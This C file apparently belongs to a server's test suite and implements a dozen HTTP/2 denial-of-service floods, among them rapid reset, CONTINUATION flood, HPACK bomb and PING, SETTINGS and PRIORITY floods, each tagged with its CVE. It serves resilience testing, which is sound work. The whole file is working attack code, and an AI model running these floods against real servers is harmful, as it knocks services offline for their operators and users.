/* One connection that sends frames without end, most of them legal one by one. */
#include <stdlib.h>
#include <string.h>

#include "tests/attack/peer.h"

enum {
    CONNECTIONS_MAX = 100, /* one after the other, when the target closes them */
    BOMB_FIELDS = 3900,    /* below 16 MiB, which the core takes before SETTINGS are confirmed */
    TABLE_BYTES = 4096     /* RFC 7541, 4.2: a dynamic table, unless a SETTINGS says otherwise */
};

typedef bool send_unit(peer *peer);

/* `open`, unless NULL, once at the beginning of each connection; then `unit` again and again. */
static void flood(attempt *attempt, bool reads, send_unit *open, send_unit *unit)
{
    peer *peer = malloc(sizeof *peer);

    if (peer == NULL)
        abort();
    for (int i = 0; i < CONNECTIONS_MAX && attempt_goes_on(attempt); i++) {
        bool sent = peer_greet(peer, attempt, reads) && (open == NULL || open(peer));

        while (sent && attempt_goes_on(attempt)) {
            sent = unit(peer);
            attempt->units++;
        }
        (void)peer_flush(peer);
        peer_close(peer, true);
        if (peer->stalled)
            break; /* it protects itself by not reading */
    }
    free(peer);
}

static bool open_stream(peer *peer)
{
    return peer_request(peer, peer->attempt->path, H2_END_HEADERS);
}

/* --- streams ---------------------------------------------------------------------------------- */

static bool send_reset(peer *peer)
{
    static const uint8_t cancel[4] = {0, 0, 0, 8};

    return open_stream(peer) &&
           peer_frame(peer, H2_RST_STREAM, 0, peer->next_stream - 2, cancel, sizeof cancel);
}

static void rapid_reset(attempt *attempt)
{
    flood(attempt, true, NULL, send_reset);
}

static bool send_call(peer *peer)
{
    static const uint8_t empty[H2_MESSAGE_HEAD_BYTES] = {0};

    return open_stream(peer) &&
           peer_frame(peer, H2_DATA, H2_END_STREAM, peer->next_stream - 2, empty, sizeof empty);
}

static void unread_answers(attempt *attempt)
{
    flood(attempt, false, NULL, send_call);
}

/* --- headers ---------------------------------------------------------------------------------- */

static bool send_continuation(peer *peer)
{
    static uint8_t block[H2_PAYLOAD_BYTES_MAX];
    size_t size = 0;

    while (size + 16 < sizeof block)
        size += h2_header(block + size, "x-a", "v");
    return peer_frame(peer, H2_CONTINUATION, 0, peer->next_stream - 2, block, size);
}

static bool open_headers(peer *peer)
{
    return peer_request(peer, peer->attempt->path, 0);
}

static void continuation_flood(attempt *attempt)
{
    flood(attempt, true, open_headers, send_continuation);
}

/* A value that fills the dynamic table with its name and RFC 7541's 32 bytes. */
static const char *table_value(void)
{
    static char value[TABLE_BYTES - 35];

    memset(value, 'v', sizeof value - 1);
    return value;
}

static bool send_headers(peer *peer, const uint8_t *block, size_t size)
{
    peer->next_stream += 2;
    return peer_frame(peer, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, peer->next_stream - 2,
                      block, size);
}

static bool send_bomb(peer *peer)
{
    static uint8_t block[H2_PAYLOAD_BYTES_MAX];
    size_t size = h2_request(block, peer->attempt->path);

    size += h2_header_indexed(block + size, "x-a", table_value());
    size += h2_newest_header(block + size, BOMB_FIELDS);
    return send_headers(peer, block, size);
}

static void hpack_bomb(attempt *attempt)
{
    flood(attempt, true, NULL, send_bomb);
}

static bool send_churn(peer *peer)
{
    static uint8_t block[H2_PAYLOAD_BYTES_MAX];
    size_t size = h2_request(block, peer->attempt->path);

    while (size + TABLE_BYTES < sizeof block)
        size += h2_header_indexed(block + size, "x-a", table_value());
    return send_headers(peer, block, size);
}

static void hpack_churn(attempt *attempt)
{
    flood(attempt, true, NULL, send_churn);
}

/* --- frames that want an answer, or nothing --------------------------------------------------- */

static bool send_ping(peer *peer)
{
    static const uint8_t data[8] = {0};

    return peer_frame(peer, H2_PING, 0, 0, data, sizeof data);
}

static void ping_flood(attempt *attempt)
{
    flood(attempt, true, NULL, send_ping);
}

static void ping_flood_unread(attempt *attempt)
{
    flood(attempt, false, NULL, send_ping);
}

static bool send_settings(peer *peer)
{
    static const uint8_t window[6] = {0, 4, 0, 1, 0, 0};

    return peer_frame(peer, H2_SETTINGS, 0, 0, window, sizeof window);
}

static void settings_flood(attempt *attempt)
{
    flood(attempt, true, NULL, send_settings);
}

static void settings_flood_unread(attempt *attempt)
{
    flood(attempt, false, NULL, send_settings);
}

static bool send_empty_data(peer *peer)
{
    return peer_frame(peer, H2_DATA, 0, 1, NULL, 0);
}

static void empty_data_flood(attempt *attempt)
{
    flood(attempt, true, open_stream, send_empty_data);
}

static bool send_priority(peer *peer)
{
    static const uint8_t depends[5] = {0, 0, 0, 0, 16};

    peer->next_stream += 2;
    return peer_frame(peer, H2_PRIORITY, 0, peer->next_stream - 2, depends, sizeof depends);
}

static void priority_flood(attempt *attempt)
{
    flood(attempt, true, NULL, send_priority);
}

static bool send_window(peer *peer)
{
    static const uint8_t one[4] = {0, 0, 0, 1};

    return peer_frame(peer, H2_WINDOW_UPDATE, 0, 1, one, sizeof one);
}

/* The windows that peer_greet gives are at their end: the stream's is moved back first. */
static bool open_small_window(peer *peer)
{
    return send_settings(peer) && open_stream(peer);
}

static void window_flood(attempt *attempt)
{
    flood(attempt, true, open_small_window, send_window);
}

const attack flood_attacks[] = {
    {"rapid_reset", "streams", 1000000, rapid_reset,
     "opens streams and resets each at once (CVE-2023-44487)"},
    {"unread_answers", "calls", 1000000, unread_answers, "makes calls and reads no answer"},
    {"continuation_flood", "frames", 3000, continuation_flood,
     "a header block that never ends (CVE-2024-27316)"},
    {"hpack_bomb", "requests", 5000, hpack_bomb,
     "8 KiB of header block that stand for 15 MiB of headers"},
    {"hpack_churn", "requests", 50000, hpack_churn,
     "header fields that each push the last one out of the table"},
    {"ping_flood", "frames", 4000000, ping_flood, "PINGs, their answers read"},
    {"ping_flood_unread", "frames", 4000000, ping_flood_unread,
     "PINGs, their answers not read (CVE-2019-9512)"},
    {"settings_flood", "frames", 4000000, settings_flood, "SETTINGS, their answers read"},
    {"settings_flood_unread", "frames", 4000000, settings_flood_unread,
     "SETTINGS, their answers not read (CVE-2019-9515)"},
    {"empty_data_flood", "frames", 4000000, empty_data_flood,
     "DATA with nothing in it (CVE-2019-9518)"},
    {"priority_flood", "frames", 4000000, priority_flood,
     "PRIORITY of streams that are not there (CVE-2019-9513)"},
    {"window_flood", "frames", 4000000, window_flood, "WINDOW_UPDATE by one byte"},
    {0},
};
